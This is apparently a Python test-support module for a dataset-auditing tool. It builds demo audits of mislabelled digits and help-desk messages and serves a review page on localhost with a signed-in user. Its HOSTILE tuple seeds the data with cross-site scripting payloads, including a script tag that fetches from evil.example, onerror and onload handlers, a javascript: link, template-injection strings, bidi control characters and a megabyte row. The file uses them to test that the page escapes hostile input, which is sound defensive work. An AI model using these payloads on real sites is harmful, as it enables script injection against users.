"""A review page to look at in a browser: audited data, a server of its own, and somebody who is signed in."""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa

import dross
from dross.core.dataset import Dataset
from dross.core.roles import Role
from dross.review.desk import Desk
from dross.review.security import Gate, Place
from dross.testing.demo import digits_with_defects

TOPICS = {
    "billing": "invoice payment refund charged twice card statement amount overdue balance receipt",
    "delivery": "parcel courier late tracking address delivered damaged box warehouse shipment",
    "login": "password reset account locked code email sign verification expired session",
    "praise": "thank wonderful friendly helpful quick excellent lovely great service recommend",
}
METHODS = ["confident-learning", "exact-duplicates", "near-duplicates", "knn-outliers"]
HOSTILE = (
    "<script>fetch('https://evil.example/x');alert(1)</script> invoice payment refund charged",
    '<img src="https://evil.example/i.png" onerror="alert(2)"> invoice payment card balance',
    "<svg onload=alert(3)><a xlink:href='javascript:alert(4)'>parcel courier late tracking</a></svg>",
    "\u202egnp.exe\u2066 فاتورة الدفع متأخرة invoice payment \u2029 overdue balance\x1b[31m\x00",
    "{{ 7 * 7 }} </textarea></title></script><style>*{display:none}</style> ${alert(5)} parcel courier",
    "password reset " + "locked account code " * 52_000,
)
"""What a row of the data may hold; the last is a megabyte."""


@dataclass
class Served:
    """A running server: its address, its desk, and the gate that lets people in."""

    address: str
    desk: Desk
    gate: Gate

    def cookie(self, person: str) -> dict[str, Any]:
        """The cookie of a person who is signed in, as a browser takes it."""
        return {"name": self.gate.cookie, "value": self.gate.sign_in(person), "url": self.address}


def pictures(folder: Path) -> Path:
    """A workspace with an audit of scanned digits, some of them labelled wrongly."""
    table = digits_with_defects().table.slice(0, 1000)
    splits = np.where(np.arange(table.num_rows) % 5 == 0, "test", "train")
    roles = {Role.IMAGE: ["image"], Role.LABEL: ["label"], Role.SPLIT: ["split"]}
    dross.audit(Dataset(table.append_column("split", pa.array(splits)), roles), only=METHODS, fdr=0.3, workspace=folder)
    return folder


def messages(n: int = 400, seed: int = 0) -> tuple[list[str], list[str]]:
    """Short messages to a help desk with their topics, one in ten of them wrong; hostile ones first."""
    rng = np.random.default_rng(seed)
    names = list(TOPICS)
    truth = rng.integers(0, len(names), n)
    texts = [
        "My "
        + " ".join(rng.choice(TOPICS[names[t]].split(), rng.integers(6, 12)))
        + ". Please "
        + " ".join(rng.choice(TOPICS[names[t]].split(), 3))
        + "."
        for t in truth
    ]
    wrong = rng.choice(n, n // 10, replace=False)
    labels = truth.copy()
    labels[wrong] = (truth[wrong] + rng.integers(1, len(names), len(wrong))) % len(names)
    texts[: len(HOSTILE)] = HOSTILE
    twins = rng.choice(np.arange(20, n), 12, replace=False)
    texts += [texts[i].replace("Please", "Kindly") for i in twins]
    return texts, [names[i] for i in (*labels, *truth[twins])]


def words(folder: Path, methods: Sequence[str] = METHODS) -> Path:
    """A workspace with an audit of messages."""
    texts, labels = messages()
    table = pa.table({"message": texts, "topic": labels})
    dross.audit(Dataset(table, {Role.TEXT: ["message"], Role.LABEL: ["topic"]}), only=methods, workspace=folder)
    return folder


@contextmanager
def serving(workspace: Path, needed: int = 1) -> Iterator[Served]:
    """Serve the review page of a workspace while the block runs."""
    import uvicorn

    from dross.review.app import create_app

    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_TCP) as listening:  # TCP: sent without delay
        listening.bind(("127.0.0.1", 0))
        port = listening.getsockname()[1]
        place = Place("127.0.0.1", port)
        desk = Desk.open(workspace, needed=needed)
        gate = Gate(place, "ada")
        config = uvicorn.Config(create_app(desk, gate), log_level="error", access_log=False, ws="none", lifespan="off")
        server = uvicorn.Server(config)
        thread = threading.Thread(target=server.run, args=([listening],), daemon=True)
        thread.start()
        for _ in range(500):
            if server.started:
                break
            time.sleep(0.01)
        try:
            yield Served(place.address, desk, gate)
        finally:
            server.should_exit = True
            thread.join(10)
            desk.close()
